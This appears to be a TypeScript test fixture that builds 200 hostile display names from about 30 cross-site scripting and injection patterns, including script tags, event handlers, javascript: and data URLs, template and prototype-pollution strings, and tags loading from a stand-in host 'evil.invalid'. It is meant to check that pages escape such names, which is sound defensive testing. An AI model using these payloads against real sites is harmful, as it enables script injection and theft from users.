// 200 names that would run a script, load something, or deceive, if a page took them for anything but text. Each sets `pwned` or
// opens a dialog when it runs, and has its number in it.

const run = 'globalThis.pwned=1;alert(1)';
const load = 'http://evil.invalid/x';

const shapes: readonly ((n: number) => string)[] = [
  (n) => `<script>${run}</script>#${n}#`,
  (n) => `<img src=x onerror="${run}">#${n}#`,
  (n) => `"><svg onload=${run}>#${n}#`,
  (n) => `'><iframe srcdoc="<script>parent.pwned=1</script>">#${n}#`,
  (n) => `</title></style></textarea><script>${run}</script>#${n}#`,
  (n) => `<a href="javascript:${run}">x</a>#${n}#`,
  (n) => `javascript:${run}//#${n}#`,
  (n) => `data:text/html,<script>${run}</script>#${n}#`,
  (n) => `<object data="data:text/html,<script>${run}</script>">#${n}#`,
  (n) => `<embed src="${load}">#${n}#`,
  (n) => `<link rel=stylesheet href="${load}">#${n}#`,
  (n) => `<style>@import url(${load});*{background:url(${load})}</style>#${n}#`,
  (n) => `<base href="${load}">#${n}#`,
  (n) => `<meta http-equiv=refresh content="0;url=${load}">#${n}#`,
  (n) => `<form action="${load}"><button autofocus onfocus=${run}>#${n}#`,
  (n) => `<details open ontoggle=${run}>#${n}#`,
  (n) => `<video><source onerror="${run}">#${n}#`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>#${n}#`,
  (n) => `\${${run}}{{constructor.constructor('${run}')()}}#${n}#`,
  (n) => `&lt;script&gt;${run}&lt;/script&gt;#${n}#`,
  (n) => `%3Cscript%3E${run}%3C/script%3E#${n}#`,
  (n) => `\u003cimg src=x onerror=${run}\u003e#${n}#`,
  (n) => `" onmouseover="${run}" style="position:fixed;inset:0" x="#${n}#`,
  (n) => `' autofocus onfocus='${run}' '#${n}#`,
  (n) => `*/${run}/*#${n}#`,
  (n) => `]]>--></script><script>${run}</script>#${n}#`,
  (n) => `\u202e<script>${run}</script>\u2066#${n}#`,
  (n) => `\u0000<script>${run}</script>\u001b[31m#${n}#`,
  (n) => `__proto__[pwned]=1;constructor.prototype.pwned=1#${n}#`,
  (n) => `<template shadowrootmode=open><script>${run}</script></template>#${n}#`,
];

export const hostileNames: readonly string[] = Array.from({ length: 200 }, (_, n) =>
  (shapes[n % shapes.length] ?? String)(n),
);

/** The numbers of those that stand in a text. */
export function namesIn(text: string): readonly number[] {
  return [...text.matchAll(/#(\d+)#/g)].map(([, n]) => Number(n));
}
